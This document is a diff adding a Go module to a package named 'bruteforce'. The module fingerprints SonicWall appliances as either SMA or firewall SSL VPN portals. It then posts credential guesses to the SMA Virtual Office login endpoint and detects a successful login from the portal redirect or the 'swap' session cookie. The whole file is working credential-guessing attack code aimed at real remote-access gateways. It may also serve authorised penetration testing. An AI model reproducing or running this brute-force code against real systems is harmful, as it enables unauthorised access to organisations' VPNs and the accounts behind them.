@@ -0,0 +1,106 @@
+package bruteforce
+
+import (
+	"context"
+	"net/http"
+	"net/url"
+	"strings"
+)
+
+// SonicWall portal variants: the Secure Mobile Access appliances and the
+// SSL VPN of SonicOS firewalls.
+const (
+	SonicWallSMA      = "sma"
+	SonicWallFirewall = "firewall"
+)
+
+// SonicWall SMA endpoints.
+const (
+	smaWelcomePath = "/cgi-bin/welcome"
+	smaLoginPath   = "/cgi-bin/userLogin"
+)
+
+// sonicWallVariant returns the portal variant of the SonicWall at base,
+// detected once per host and port from whether it serves the SMA welcome
+// page.
+func (e *Engine) sonicWallVariant(ctx context.Context, base string) (string, error) {
+	host := base
+	if u, err := url.Parse(base); err == nil {
+		host = strings.ToLower(u.Host)
+	}
+	if v, ok := e.swVariants.Load(host); ok {
+		return v.(string), nil
+	}
+
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, base+smaWelcomePath, nil)
+	if err != nil {
+		return "", err
+	}
+	req.Header.Set("User-Agent", e.userAgent())
+	req.Close = true
+	hr, err := e.doRequest(req)
+	if err != nil {
+		return "", err
+	}
+	hr.Body.Close()
+
+	variant := SonicWallFirewall
+	if hr.StatusCode == http.StatusOK {
+		variant = SonicWallSMA
+	}
+	e.swVariants.Store(host, variant)
+	return variant, nil
+}
+
+// smaBody holds the rejections of the SMA login.
+var smaBody = newBodyMatcher(nil, nil, []string{"invalid", "failed", "denied"})
+
+// checkSonicWallSMA logs in to the Virtual Office portal of an SMA. A
+// valid login gets the swap session cookie or is sent on to the portal.
+func (e *Engine) checkSonicWallSMA(ctx context.Context, base string, cred Credential, password, domain string, resp *Response, buf []byte) (bool, error) {
+	if domain == "" {
+		domain = "LocalDomain"
+	}
+	form := url.Values{
+		"username":    {cred.Username},
+		"password":    {password},
+		"domain":      {domain},
+		"state":       {"login"},
+		"login":       {"true"},
+		"verifyCert":  {"0"},
+		"portalname":  {"VirtualOffice"},
+		"ajax":        {"true"},
+		"loginButton": {"Login"},
+	}
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, base+smaLoginPath, strings.NewReader(form.Encode()))
+	if err != nil {
+		return false, err
+	}
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	req.Header.Set("User-Agent", e.userAgent())
+	req.Header.Set("Connection", "close")
+	req.Close = true
+
+	hr, err := e.doRequest(req)
+	if err != nil {
+		return false, err
+	}
+	defer hr.Body.Close()
+
+	body, err := smaBody.scan(hr, buf, resp)
+	if err != nil {
+		return false, err
+	}
+	if hr.StatusCode >= 400 || body.hasAny("invalid", "failed", "denied") {
+		return false, nil
+	}
+	if strings.Contains(hr.Header.Get("Location"), "/cgi-bin/portal") {
+		return true, nil
+	}
+	for _, c := range hr.Cookies() {
+		if c.Name == "swap" && c.Value != "" && c.MaxAge >= 0 {
+			return true, nil
+		}
+	}
+	return false, nil
+}